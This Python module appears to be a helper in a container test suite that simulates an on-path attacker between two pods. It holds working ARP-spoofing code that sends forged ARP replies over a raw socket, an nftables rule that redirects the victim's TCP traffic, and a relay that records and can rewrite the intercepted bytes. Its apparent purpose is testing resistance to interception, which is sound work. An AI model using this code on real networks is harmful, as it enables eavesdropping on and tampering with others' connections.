"""An attacker between two pods: by forged ARP answers one sends him what is for the other, and he takes over connections."""

import contextlib
import socket
import struct
import threading

import actors
from pods import wait_until

_LISTEN_PORT = 6666
_ETHERTYPE_ARP, _ARP_REPLY = 0x0806, 2


def _mac(pod):
    return pod.run(["cat", "/sys/class/net/eth0/address"]).stdout.strip()


def _packed(mac):
    return bytes.fromhex(mac.replace(":", ""))


class OnPath:
    """
    Use as a context manager. What `caller` sends to the address and port is accepted in the attacker's pod and handled by
    behave(connection); `rules` are more nftables rules for what is passing, each a text.
    """

    def __init__(self, pod, caller, address, port, behave, rules=()):
        self._pod = pod
        self._caller = caller
        self._address = address
        self._rules = [f"ip daddr {address} tcp dport {port} redirect to :{_LISTEN_PORT}", *rules]
        self._server = actors.Server(pod.listen(port=_LISTEN_PORT), behave)

    def __enter__(self):
        self._server.__enter__()
        self._pod.run(["nft", "-f", "-"], stdin="table ip onpath { chain taken {\ntype nat hook prerouting priority -100\n"
                      + "\n".join(self._rules) + "\n}\n}\n")
        self._lie()
        return self

    def __exit__(self, *_):
        self._pod.run(["nft", "delete", "table", "ip", "onpath"])
        self._caller.run(["ip", "neigh", "flush", "dev", "eth0"])
        self._server.__exit__()

    def _lie(self):
        """Tells the caller that the address is the attacker's, until it is believed."""
        own, caller = _mac(self._pod), _mac(self._caller)
        arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, _ARP_REPLY) + _packed(own) + socket.inet_aton(self._address) \
            + _packed(caller) + socket.inet_aton(self._caller.ipv4)
        frame = _packed(caller) + _packed(own) + struct.pack("!H", _ETHERTYPE_ARP) + arp

        def believed():
            with self._caller.open_socket(kind=socket.SOCK_DGRAM) as asks:
                asks.sendto(b"", (self._address, 9))  # so that it has an opinion that can be changed
            wire.send(frame)
            return own in self._caller.run(["ip", "neigh", "show", self._address]).stdout

        with self._pod.entered():
            wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        with wire:
            wire.bind(("eth0", _ETHERTYPE_ARP))
            wait_until(believed, f"{self._caller.name} to believe the attacker")


class Relay:
    """A behave(): carries bytes on to the real server. Attributes: `sent` and `answered`, what has passed, both ways."""

    def __init__(self, pod, address, port, change_sent=lambda data: data, change_answered=lambda data: data):
        self._pod = pod
        self._server = (address, port)
        self._changes = (change_sent, change_answered)
        self.sent = bytearray()
        self.answered = bytearray()

    def __call__(self, connection):
        with self._pod.connect(*self._server, timeout_s=60) as onward:
            back = threading.Thread(target=self._carry, args=(onward, connection, self.answered, self._changes[1]))
            back.start()
            self._carry(connection, onward, self.sent, self._changes[0])
            back.join()

    def _carry(self, source, destination, record, change):
        with contextlib.suppress(OSError):
            while data := source.recv(actors.CHUNK):
                record += data
                destination.sendall(change(data))
        for end in (source, destination):
            with contextlib.suppress(OSError):
                end.shutdown(socket.SHUT_RDWR)
